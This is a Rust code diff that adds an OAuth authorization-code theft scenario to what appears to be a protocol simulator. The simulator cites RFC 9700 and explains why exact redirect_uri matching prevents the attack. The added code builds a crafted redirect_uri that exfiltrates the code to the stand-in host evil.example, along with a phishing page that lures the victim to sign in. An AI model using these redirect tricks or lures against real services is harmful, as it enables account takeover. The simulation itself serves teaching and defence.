@@ -804,6 +804,76 @@ impl<'a> Run<'a> {
         }
     }
 
+    /// The redirect_uri the attacker writes, shaped to pass the server's rule against the first
+    /// registered URI.
+    fn crafted_redirect(&self) -> String {
+        let registered = self.s.redirect_uris.first().cloned().unwrap_or_default();
+        match (self.s.matching, redirect::parse(&registered)) {
+            (redirect::Matching::Subdomain, Ok(u)) => format!("{}://uploads.{}{}/u/mallory/steal.html", u.scheme, u.host, u.port.map(|p| format!(":{p}")).unwrap_or_default()),
+            _ => format!("{}/../open?to=https://evil.example/collect", registered.trim_end_matches('/')),
+        }
+    }
+
+    /// Code theft through a redirect_uri the server matches too loosely (RFC 9700 section 4.1).
+    fn open_redirect(&mut self) {
+        let lane = self.client_lane();
+        // The attacker starts a genuine sign-in in their own browser, for its state and PKCE.
+        if self.s.client == ClientKind::Web {
+            let m = Message::request("GET", "/login").header("Host", APP_HOST);
+            self.send(ATTACKER, BACK, "GET /login (attacker)", &m, "The attacker starts a sign-in at the photo app in their own browser, to get a genuine authorization request tied to their own session.".into(), vec![SpecRef::rfc(9700, "4.1.1", "Redirect URI Validation Attacks on Authorization Code Grant")]);
+        }
+        let url = self.begin(ATTACKER);
+        let crafted = self.crafted_redirect();
+        let registered = http::encode_form(&[("redirect_uri", self.s.redirect_uri.as_str())]);
+        let replaced = http::encode_form(&[("redirect_uri", crafted.as_str())]);
+        let link = url.replacen(&registered, &replaced, 1);
+        let page = format!("<!doctype html><title>Your photo-app storage is full</title><a href=\"{}\">Sign in to photo-app to keep your photos</a>", link.replace('&', "&amp;"));
+        let m = Message::response(200, "OK").body("text/html; charset=utf-8", page);
+        self.send(ATTACKER, BROWSER, "200 page with a sign-in link", &m, format!("The attacker swaps the redirect_uri in that request for {crafted} and sends the link to Alice. Everything else is genuine: the real server, the real app's name, the attacker's own state{}.", if self.s.pkce != Pkce::Off { " and PKCE challenge (whose verifier the attacker holds)" } else { "" }), vec![SpecRef::rfc(9700, "4.1.1", "Redirect URI Validation Attacks on Authorization Code Grant")]);
+        let Ok(query) = self.authorize_request(BROWSER, &link) else {
+            self.t.summary.push("Exact matching refused the attacker's redirect_uri at the authorization server: Alice saw an error page, and no code was issued.".into());
+            return;
+        };
+        let location = self.login_and_consent(BROWSER, ALICE, &query, true);
+        let code = http::form_value(location.split_once('?').map(|q| q.1).unwrap_or(""), "code").unwrap_or_default();
+        let resolved = redirect::parse(location.split('?').next().unwrap_or("")).map(|u| u.resolved()).unwrap_or_default();
+        let query_part = location.split_once('?').map(|q| q.1).unwrap_or("");
+        if self.s.matching == redirect::Matching::Subdomain {
+            let m = Message::request("GET", &format!("{}?{query_part}", redirect::parse(&crafted).map(|u| u.resolved_path()).unwrap_or_default())).header("Host", &redirect::parse(&crafted).map(|u| u.host).unwrap_or_default());
+            self.send(BROWSER, ATTACKER, "GET the attacker's page with the code", &m, "The browser follows the redirect to a page the attacker uploaded to the app's user-content subdomain. Its script reads the code from the address and sends it home.".into(), vec![SpecRef::rfc(9700, "4.1.1", "Redirect URI Validation Attacks on Authorization Code Grant")]);
+        } else {
+            let path = resolved.split_once(APP_HOST).map(|p| p.1.split('?').next().unwrap_or("/").to_string()).unwrap_or_else(|| "/open".into());
+            let m = Message::request("GET", &format!("{path}?{query_part}")).header("Host", APP_HOST);
+            self.send(BROWSER, lane, "GET /open (the redirector)", &m, "The browser resolves the ../ in the path: the address is the app's own open redirector, /open, not its callback. The code and state ride along in the query.".into(), vec![SpecRef::rfc(9700, "4.11", "Open Redirection")]);
+            // The redirector passes on every parameter but its own `to`.
+            let passed: Vec<(String, String)> = http::decode_form(query_part).into_iter().filter(|(n, _)| n != "to").collect();
+            let passed = http::encode_form(&passed.iter().map(|(n, v)| (n.as_str(), v.as_str())).collect::<Vec<_>>());
+            let m = Message::response(302, "Found").header("Location", &format!("https://evil.example/collect?{passed}"));
+            self.send(lane, BROWSER, "302 to evil.example", &m, "The redirector sends the browser wherever `to` says, passing its query on, as many do.".into(), vec![SpecRef::rfc(9700, "4.11.1", "Client as Open Redirector")]);
+            let m = Message::request("GET", &format!("/collect?{passed}")).header("Host", "evil.example");
+            self.send(BROWSER, ATTACKER, "GET /collect with the code", &m, "Alice's code arrives at the attacker's server.".into(), vec![SpecRef::rfc(9700, "4.1.1", "Redirect URI Validation Attacks on Authorization Code Grant")]);
+        }
+        let verifier = self.pending.get(&ATTACKER).and_then(|p| p.verifier.clone());
+        if self.s.client == ClientKind::Spa {
+            let answer = self.token_request(ATTACKER, &code, verifier.as_deref(), &crafted, false);
+            self.token_response(ATTACKER, &answer);
+            if let TokenAnswer::Tokens { access, .. } = &answer {
+                let access = access.clone();
+                self.api_call(ATTACKER, &access);
+                self.t.summary.push(format!("The server matched the redirect_uri by {}, so Alice's code went to the attacker, who redeemed it: a public client has no secret, and PKCE does not help when the attacker made the challenge. Only exact matching (RFC 9700 section 4.1.3) stops this.", self.s.matching.describe()));
+            } else {
+                self.t.summary.push("The attacker had Alice's code but could not redeem it.".into());
+            }
+        } else {
+            let callback = format!("{}?{query_part}", self.s.redirect_uri);
+            if let Some(c) = self.callback(ATTACKER, &callback, "The attacker, holding Alice's code, opens the app's real callback in their own browser, whose session matches the state.".into()) {
+                let answer = self.token_request(lane, &c, verifier.as_deref(), &self.s.redirect_uri.clone(), true);
+                self.token_response(lane, &answer);
+                self.t.summary.push(if matches!(answer, TokenAnswer::Tokens { .. }) { "The attacker's session got Alice's tokens.".into() } else { "The code reached the attacker, but the attack failed at the token endpoint: the client sends its registered redirect_uri, and the server requires the one the code was issued for (RFC 6749 section 4.1.3). A public client, which the attacker can impersonate, has no such protection; exact matching protects both.".into() });
+            }
+        }
+    }
+
     /// The attacker presents an ID token to the client's back end, which signs a browser in
     /// from an ID token posted by a front end (as "one tap" sign-in buttons do): one issued to
     /// another app, or Alice's own from earlier.
@@ -1023,6 +1093,11 @@ fn code_flow(mut r: Run) -> Trace {
         } else {
             r.t.summary.push("The state check refused the attacker's code: Alice's browser did not start this sign-in.".into());
         }
+        return r.finish();
+    }
+
+    if s.attack == Attack::OpenRedirect {
+        r.open_redirect();
         return r.finish();
     }
 
